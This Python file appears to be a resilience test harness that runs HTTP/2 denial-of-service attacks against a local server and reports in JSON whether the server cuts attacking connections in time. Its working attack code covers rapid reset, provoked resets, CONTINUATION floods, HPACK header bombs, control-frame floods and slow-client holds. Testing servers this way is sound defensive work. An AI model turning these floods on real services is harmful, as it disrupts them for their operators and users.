#!/usr/bin/env python3
# SPDX-License-Identifier: Apache-2.0
"""Attacks on a server of HTTP/2, one at a time.

usage: h2attacker.py PORT ATTACK [SECONDS [HEAD_S IDLE_S [CERTIFICATE]]]
       h2attacker.py --list

Attacks the port of 127.0.0.1 for so long, again on a new connection whenever it was cut, and prints one line of
JSON: connections; refused: how often none was had; units sent in all; not_cut: connections that lived on for a
second after the attack had passed its limit; slowest_cut_ms: from passing the limit to the end or GOAWAY;
not_closed: those that got GOAWAY and no end within 5 s; ends by code of GOAWAY. HEAD_S and IDLE_S are the
server's times for a head and for a client that does nothing: what only holds on passes its limit there. With a
certificate: over TLS, which trusts it."""
import collections
import json
import select
import ssl
import sys
import time

import h2raw
from h2raw import H2, Ended, data, headers, request

CUT_S = 1.0     # a connection must be cut this soon after its limit
CLOSED_S = 5.0  # and be closed this soon after its GOAWAY
SLOWED_S = 20.0  # a server that slows an attack down must cut it this soon after the attacker's time
RESETS = 300    # by either side: 200 at once, then 33 a second
PARTS = 16      # CONTINUATIONs of one block: 8
CONTROL = 5000  # frames that carry nothing, at once
HELD = 20       # connections that hold on at once
BOMBS = 300     # heads that are refused, as resets
PAGE = "/app.js"

ATTACKS = {}


def attack(limit, **more):
    """A flood: function(h2) yields (units, bytes) without end; limit in units. Of h2 it may see next_stream."""
    def add(function):
        ATTACKS[function.__name__] = dict(more, flood=function, limit=limit)
        return function
    return add


def hold(seconds, **more):
    """Holding on: function(h2) is called ten times a second; it passes its limit after seconds("head" or "idle")."""
    def add(function):
        ATTACKS[function.__name__] = dict(more, hold=function, seconds=seconds)
        return function
    return add


def batches(h2, unit, at_once=50, per_unit=1):
    """unit(stream) is the bytes of one unit, on a new stream each."""
    while True:
        first = h2.next_stream
        h2.next_stream += 2 * at_once * per_unit
        yield at_once, b"".join(unit(first + 2 * per_unit * n) for n in range(at_once))


GET = h2raw.block(request("GET", PAGE))
POST = h2raw.block(request("POST", "/"))


# ---------------------------------------------------------------- resets

@attack(RESETS)
def rapid_reset(h2):
    """CVE-2023-44487."""
    return batches(h2, lambda s: headers(s, GET) + h2raw.rst_stream(s))


@attack(RESETS)
def rapid_reset_with_data(h2):
    return batches(h2, lambda s: headers(s, POST, end=False) + data(s, b"x") + h2raw.rst_stream(s))


def provoked(name, unit, limit=RESETS):
    """CVE-2025-8671: the server is made to reset. unit(stream) begins with a request."""
    def function(h2):
        return batches(h2, unit)
    function.__name__ = "provoked_by_" + name
    attack(limit, own={h2raw.INITIAL_WINDOW_SIZE: 0})(function)


provoked("window_update_of_0", lambda s: headers(s, GET) + h2raw.window_update(s, 0))
provoked("window_overflow", lambda s: headers(s, GET) + h2raw.window_update(s, h2raw.STREAM_MAX) * 2)
provoked("data_on_half_closed", lambda s: headers(s, GET) + data(s, b"x"))
provoked("headers_on_half_closed", lambda s: headers(s, GET) + headers(s, GET))
provoked("priority_of_4_bytes", lambda s: headers(s, GET) + h2raw.frame(h2raw.PRIORITY, 0, s, bytes(4)))
# a server may also ignore it (RFC 9113, section 5.3), and then it is one of the frames that carry nothing
provoked("priority_of_itself", lambda s: headers(s, GET) + h2raw.priority(s, s), CONTROL)
provoked("upper_case", lambda s: headers(s, GET + h2raw.literal("X-Upper", "1")))
provoked("content_length", lambda s: headers(s, POST + h2raw.literal("content-length", "9"), end=False) + data(s, b"x", end=True))
provoked("trailers_without_an_end", lambda s: headers(s, POST, end=False) + headers(s, h2raw.literal("x-sum", "1"), end=False))


# ---------------------------------------------------------------- heads

@attack(PARTS)
def continuation_flood(h2):
    """CVE-2024-28182: a block that never ends."""
    yield 0, headers(1, GET, end_headers=False)
    n = 0
    while True:
        n += 1
        yield 1, h2raw.continuation(1, h2raw.literal("x-%d" % n, "v" * 500))


@attack(PARTS)
def empty_continuation_flood(h2):
    yield 0, headers(1, GET, end_headers=False)
    while True:
        yield 4, h2raw.continuation(1) * 4


@attack(BOMBS, own={h2raw.INITIAL_WINDOW_SIZE: 0})
def header_bomb(h2):
    """One entry of 3900 bytes, named by a byte each time: 16 KB become 60 MB."""
    yield 0, headers(1, GET + h2raw.remembered("x", "v" * 3900))
    h2.next_stream = 3
    yield from batches(h2, lambda s: headers(s, GET + h2raw.indexed(62) * 16000), at_once=4)


@attack(BOMBS, own={h2raw.INITIAL_WINDOW_SIZE: 0})
def tiny_field_bomb(h2):
    """CVE-2026-49975: fields of a byte each on the wire, whose bookkeeping is what costs."""
    yield 0, headers(1, GET + h2raw.remembered("a", ""))
    h2.next_stream = 3
    yield from batches(h2, lambda s: headers(s, GET + h2raw.indexed(62) * 16000), at_once=4)


@attack(BOMBS, own={h2raw.INITIAL_WINDOW_SIZE: 0})
def cookie_bomb(h2):
    """Cookie crumbs, which are to be put together again."""
    yield 0, headers(1, GET + h2raw.remembered("cookie", "a=b"))
    h2.next_stream = 3
    yield from batches(h2, lambda s: headers(s, GET + h2raw.indexed(62) * 16000), at_once=4)


@attack(BOMBS)
def table_churn(h2):
    """A table made small and large again in each block, and refilled."""
    parts = [h2raw.table_size(0), h2raw.table_size(4096), GET]
    whole = b"".join(parts + [h2raw.remembered("x%d" % n, "v" * 30) for n in range(200)])
    yield from batches(h2, lambda s: headers(s, whole), at_once=4)


# ---------------------------------------------------------------- frames that carry nothing

def control(name, frames, begin=b"", own=()):
    def function(h2):
        yield 0, begin
        while True:
            yield 100, frames * 100
    function.__name__ = name
    attack(CONTROL, own=own)(function)


control("settings_flood", h2raw.settings())
control("settings_with_values_flood", h2raw.settings({h2raw.INITIAL_WINDOW_SIZE: 1000, h2raw.HEADER_TABLE_SIZE: 100}))
control("settings_ack_flood", h2raw.settings(ack=True))
control("ping_flood", h2raw.ping())
control("ping_ack_flood", h2raw.ping(ack=True))
control("window_update_flood", h2raw.window_update(0, 1))
control("stream_window_update_flood", h2raw.window_update(1, 1), headers(1, GET), own={h2raw.INITIAL_WINDOW_SIZE: 0})
control("priority_flood", h2raw.priority(1, 3))
control("priority_of_many_flood", b"".join(h2raw.priority(2 * n + 1, 2 * n + 3) for n in range(50)))
control("empty_data_flood", data(1), headers(1, POST, end=False))
control("padded_data_flood", data(1, pad=3), headers(1, POST, end=False))
control("unknown_frame_flood", h2raw.frame(0x77, 0, 0, b"whatever"))
control("unknown_stream_frame_flood", h2raw.frame(0x77, 0, 1), headers(1, GET), own={h2raw.INITIAL_WINDOW_SIZE: 0})


def huge(name, kind, flags, stream):
    def function(h2):
        yield 1, h2raw.frame(kind, flags, stream, bytes(1000), length=(1 << 24) - 1)
        while True:
            yield 0, bytes(1000)
    function.__name__ = "huge_%s" % name
    attack(1)(function)


huge("data", h2raw.DATA, 0, 1)
huge("headers", h2raw.HEADERS, h2raw.END_HEADERS, 1)
huge("settings", h2raw.SETTINGS, 0, 0)
huge("unknown", 0x77, 0, 0)


# ---------------------------------------------------------------- holding on

def ask(h2, cnt=100):
    h2.send(*[headers(2 * n + 1, GET) for n in range(cnt)])


@hold("head", begin=False)
def half_a_preface(h2):
    if h2.ticks == 0:
        h2.send(h2raw.PREFACE[:12])


@hold("head", begin=False)
def a_preface_by_drips(h2):
    if h2.ticks % 5 == 0 and h2.ticks < 100:
        h2.send(h2raw.PREFACE[h2.ticks // 5:][:1])


@hold("head", begin=False)
def a_preface_and_no_settings(h2):
    if h2.ticks == 0:
        h2.send(h2raw.PREFACE)


@hold("head")
def a_block_without_its_end(h2):
    if h2.ticks == 0:
        h2.send(headers(1, GET, end_headers=False))


@hold("head")
def a_frame_by_drips(h2):
    """One byte of a head in each half second; it answers what it is asked meanwhile, as far as it can."""
    if h2.ticks % 5 == 0:
        h2.send(headers(1, GET)[h2.ticks // 5:][:1])


@hold("idle")
def nothing_after_settings(h2):
    """Says nothing more, and answers no PING."""


@hold("idle", own={h2raw.INITIAL_WINDOW_SIZE: 0}, is_alive=True)
def zero_window(h2):
    """100 answers that have no window; PINGs are answered."""
    if h2.ticks == 0:
        ask(h2)


@hold("idle", own={h2raw.INITIAL_WINDOW_SIZE: 1}, is_alive=True)
def a_window_of_one_byte(h2):
    if h2.ticks == 0:
        ask(h2)


@hold("idle", own={h2raw.INITIAL_WINDOW_SIZE: 1}, is_alive=True)
def window_drip(h2):
    """A byte each tenth of a second; the answer would take half an hour."""
    if h2.ticks == 0:
        ask(h2, 1)
    h2.send(h2raw.window_update(1, 1))


@hold("idle", own={h2raw.INITIAL_WINDOW_SIZE: 1}, is_alive=True)
def window_drip_of_many(h2):
    if h2.ticks == 0:
        ask(h2)
    h2.send(h2raw.window_update(2 * (h2.ticks % 100) + 1, 1))


@hold("idle", own={h2raw.INITIAL_WINDOW_SIZE: h2raw.STREAM_MAX}, rcvbuf=4096, is_deaf=True)
def never_reads(h2):
    """Asks for 1.4 MB, gives all the window there is and does not look at what comes."""
    if h2.ticks == 0:
        h2.send(h2raw.window_update(0, 1 << 30))
        ask(h2)


# ---------------------------------------------------------------- the program

def look(h2):
    """Takes what has come; raises Ended."""
    while select.select([h2.socket], [], [], 0)[0] or getattr(h2.socket, "pending", int)():
        try:
            h2.read(0.2)
        except TimeoutError:
            return


def is_cut(h2):
    return any(code != h2raw.NO_ERROR for _, code in h2.goaways)


class Tally:
    def __init__(self):
        self.connections = self.refused = self.units = self.not_cut = self.not_closed = 0
        self.slowest_cut_ms = 0.0
        self.ends = collections.Counter()

    def cut(self, h2, limit_at):
        """limit_at: when it was passed, or None: cut before, which is as good."""
        late = max(time.monotonic() - limit_at, 0) if limit_at else 0
        self.slowest_cut_ms = max(self.slowest_cut_ms, round(late * 1000, 1))
        self.ends[str(h2.goaways[-1][1]) if h2.goaways else "none"] += 1

    def close(self, h2):
        try:
            h2.end(CLOSED_S)
        except (TimeoutError, OSError):
            self.not_closed += 1
        h2.close()


def flooding(h2, row, tally, end):
    """One connection's flood. Nothing is left unsent when a send waits: the same bytes are tried again."""
    limit_at, sent = None, 0
    h2.socket.settimeout(0.05)
    for units, batch in row["flood"](h2):
        view = memoryview(batch)
        while view:
            try:
                look(h2)
                h2.socket.settimeout(0.05)
                if not is_cut(h2):
                    view = view[h2.socket.send(view):]
            except TimeoutError:
                pass
            except (Ended, OSError):
                h2.drain()
                return tally.cut(h2, limit_at)
            if is_cut(h2):
                tally.cut(h2, limit_at)
                return tally.close(h2)
            now = time.monotonic()
            if limit_at and now > limit_at + CUT_S:
                tally.not_cut += 1
                return None
            if now > end + SLOWED_S:
                tally.not_cut += 1
                return None
        sent += units
        tally.units += units
        if sent >= row["limit"] and not limit_at:
            limit_at = time.monotonic()


def holding(row, tally, times, connect):
    """Some connections that hold on side by side."""
    held, cut = [connect() for _ in range(HELD)], []
    tally.connections += len(held)
    limit_at = time.monotonic() + times[row["seconds"]]
    if row.get("is_deaf"):
        deaf(row, tally, held, limit_at + CUT_S)
        return
    while held and time.monotonic() < limit_at + CUT_S:
        for h2 in list(held):
            try:
                look(h2)
                if not h2.goaways:
                    row["hold"](h2)
                    h2.ticks += 1
                    continue
            except (Ended, OSError):
                pass
            tally.cut(h2, limit_at)
            cut.append(h2)
            held.remove(h2)
        time.sleep(0.1)
    tally.not_cut += len(held)
    for h2 in cut:
        tally.close(h2)


def deaf(row, tally, held, until):
    """What lies in buffers comes after that time still, then at once the end: a pause means that nobody minded."""
    for h2 in held:
        row["hold"](h2)
    time.sleep(max(until - time.monotonic(), 0))
    for h2 in held:
        try:
            while True:
                h2.read(0.1)
        except Ended:
            tally.cut(h2, None)
        except TimeoutError:
            tally.not_cut += 1
        h2.close()


def main():
    if sys.argv[1:] == ["--list"]:
        print("\n".join(ATTACKS))
        return
    port, name = int(sys.argv[1]), sys.argv[2]
    numbers = [float(a) for a in sys.argv[3:6]] + [3.0, 10.0, 60.0][len(sys.argv[3:6]):]
    row, times = ATTACKS[name], {"head": numbers[1], "idle": numbers[2]}
    tls = ssl.create_default_context(cafile=sys.argv[6]) if len(sys.argv) > 6 else None
    end = time.monotonic() + numbers[0]
    tally = Tally()

    def connect():
        h2 = H2(port, tls=tls, name="localhost", own=row.get("own", ()), rcvbuf=row.get("rcvbuf"),
                is_polite=bool(row.get("is_alive")), begin=row.get("begin", True))
        h2.ticks = 0
        return h2

    if "hold" in row:
        holding(row, tally, times, connect)
    while "flood" in row and time.monotonic() < end:
        try:
            h2 = connect()
        except (Ended, OSError):
            tally.refused += 1  # an answer too
            time.sleep(0.05)
            continue
        tally.connections += 1
        with h2:
            flooding(h2, row, tally, end)
    print(json.dumps(vars(tally)))


if __name__ == "__main__":
    main()
